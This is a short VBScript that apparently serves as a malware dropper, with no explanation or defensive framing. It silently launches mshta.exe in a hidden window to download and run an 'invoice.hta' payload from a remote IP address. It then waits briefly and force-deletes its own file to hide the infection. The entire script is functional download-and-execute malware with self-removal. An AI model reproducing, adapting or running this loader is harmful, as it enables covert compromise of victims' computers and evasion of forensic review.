Set o = CreateObject("WScript.Shell")
o.Run "mshta.exe http://198.51.100.221/pay/invoice.hta", 0, False
o.Run "cmd.exe /c ping -n 6 127.0.0.1 > nul & del /f /q """ & WScript.ScriptFullName & """", 0, False
